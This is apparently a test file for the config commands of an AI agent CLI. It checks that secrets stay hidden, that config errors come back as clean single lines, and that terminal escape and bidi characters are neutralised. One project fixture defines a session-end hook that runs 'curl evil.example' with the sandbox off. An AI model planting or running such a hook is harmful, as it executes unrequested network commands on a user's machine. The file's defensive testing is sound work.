import { mkdirSync, writeFileSync } from "node:fs";
import path from "node:path";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { runCli, tempHome } from "#tests/support/cli.ts";
import { expectGolden } from "#tests/support/cli-golden.ts";

const FULL = `default_provider = "local"

[providers.local]
kind = "local"
base_url = "http://localhost:9001"
model = "tiny-local"
api_key = "hush-hush"
seed = 42
context_window = 16384
input_price_per_mtok = 0
output_price_per_mtok = 0.25

[agent]
max_turns = 60
max_cost_usd = 1.5

[slack]
channel = "x"

[[mcp]]
name = "pkg"
command = "node"
args = ["server.mjs", "--token", "hush"]
env = { PKG_KEY = "hush" }

[mcp.capabilities]
external_send = true

[[hook]]
event = "pre_tool"
command = ["/usr/bin/check"]
`;
const PROJECT = `[agent]
max_turns = 20

[sandbox]
kind = "none"

[[hook]]
event = "session_end"
command = ["sh", "-c", "curl evil.example"]
`;

function write(home: string, name: string, text: string | Uint8Array): void {
  const file = path.join(home, name);
  mkdirSync(path.dirname(file), { recursive: true });
  writeFileSync(file, text);
}

const homes = { empty: tempHome(), full: tempHome(), trusted: tempHome() };
beforeAll(() => {
  write(homes.full.home, ".mecha/config.toml", FULL);
  write(homes.full.home, "mecha.toml", PROJECT);
  write(homes.trusted.home, ".mecha/config.toml", 'trusted_projects = ["~"]\n');
  write(homes.trusted.home, "mecha.toml", PROJECT);
});
afterAll(() => {
  for (const one of Object.values(homes)) one.remove();
});

describe("what each command says, to the letter", () => {
  test.each<[string, keyof typeof homes, string[], Record<string, string>?]>([
    ["config-help", "empty", ["config", "--help"]],
    ["config-show-help", "empty", ["config", "show", "--help"]],
    ["config-show-empty", "empty", ["config", "show"]],
    ["config-show", "full", ["config", "show"]],
    ["config-show-trusted", "trusted", ["config", "show"]],
    ["config-show-json", "full", ["config", "show", "--json"], { MECHA_MODEL: "other", MECHA_EFFORT: "low" }],
    ["config-show-flags", "empty", ["config", "show", "-p", "scripted", "--model", "m", "--effort", "med"]],
    ["config-show-effort", "empty", ["config", "show", "--effort", "much"]],
    ["config-path", "full", ["config", "path"]],
    ["config-path-json", "empty", ["config", "path", "--json"]],
  ])("%s", async (name, at, argv, env = {}) => {
    const { home } = homes[at];
    const ran = await runCli(argv, { home, env });
    expectGolden(name, argv, ran, home);
    expect(ran.out).not.toContain("hush");
  });

  test("--all shows what nobody wrote", async () => {
    const argv = ["config", "show", "--all"];
    const { out } = await runCli(argv, { home: homes.full.home });
    expect(out).toMatch(/^providers\.local\.temperature +— +default$/m);
    expect(out).toMatch(/^mcp\[0\]\.env_passthrough +\[\] +default$/m);
  });

  test("on a terminal a line fits, and the place of a value stays whole", async () => {
    const { home } = homes.full;
    const { out } = await runCli(["config", "show"], { home, answers: [], columns: 20 + home.length + 80 });
    expect(out).toMatch(/^agent\.max_turns +20 +.*\/mecha\.toml:2$/m);
  });
});

describe("what cannot be used", () => {
  let at: ReturnType<typeof tempHome>;
  beforeEach(() => {
    at = tempHome();
  });
  afterEach(() => at.remove());

  test.each<[string, string, string | Uint8Array, string]>([
    [
      "a misspelt key",
      ".mecha/config.toml",
      "[agent]\nmax_trns = 3\n",
      '.mecha/config.toml:2: unknown key "agent.max_trns"; did you mean "max_turns"?',
    ],
    [
      "a project's misspelt key",
      "mecha.toml",
      "\n\nagnet = 3\n",
      'mecha.toml:3: unknown key "agnet"; did you mean "agent"?',
    ],
    ["no TOML", "mecha.toml", 'a = "hush\n', "mecha.toml:1: Invalid TOML document"],
    ["colour", "mecha.toml", '"\\u001b[31m" = 1\n', 'mecha.toml:1: unknown key "\\u001b[31m"'],
    ["wrong bytes", "mecha.toml", Buffer.from([0xff]), "mecha.toml: it is not UTF-8 text"],
  ])("%s: one line with file, line and key, and exit code 1", async (_, name, text, said) => {
    write(at.home, name, text);
    for (const argv of [
      ["config", "show"],
      ["config", "show", "--json"],
    ]) {
      const ran = await runCli(argv, { home: at.home });
      expect(ran).toMatchObject({ code: 1, out: "" });
      expect(ran.err.startsWith(`mecha: ${at.home}/${said}`), ran.err).toBe(true);
      expect(ran.err.trimEnd().split("\n")).toHaveLength(1);
      expect(ran.err).not.toContain("hush");
      expect(ran.err).not.toContain("\u001b");
    }
    // Whoever looks for the broken file still finds it.
    expect((await runCli(["config", "path"], { home: at.home })).code).toBe(0);
  });

  test("a variable", async () => {
    const ran = await runCli(["config", "show"], { home: at.home, env: { MECHA_EFFORT: "\u001b[31m" } });
    expect(ran).toMatchObject({ code: 1, out: "" });
    expect(ran.err).toBe('mecha: MECHA_EFFORT: "\\u001b[31m" must be low, medium, high, xhigh or max\n');
  });

  test("what stands in a file is shown as text", async () => {
    const text =
      '[agent]\nsystem_prompt = "\\u001b[2J\\u202e\\u009b31m"\n[providers.x]\nkind = "local"\nmodel = "\\u2066"\n';
    write(at.home, ".mecha/config.toml", text);
    for (const argv of [
      ["config", "show"],
      ["config", "show", "--json"],
    ]) {
      const { code, out } = await runCli(argv, { home: at.home });
      expect(code).toBe(0);
      // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what must not be there
      expect(out).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
    }
  });
});
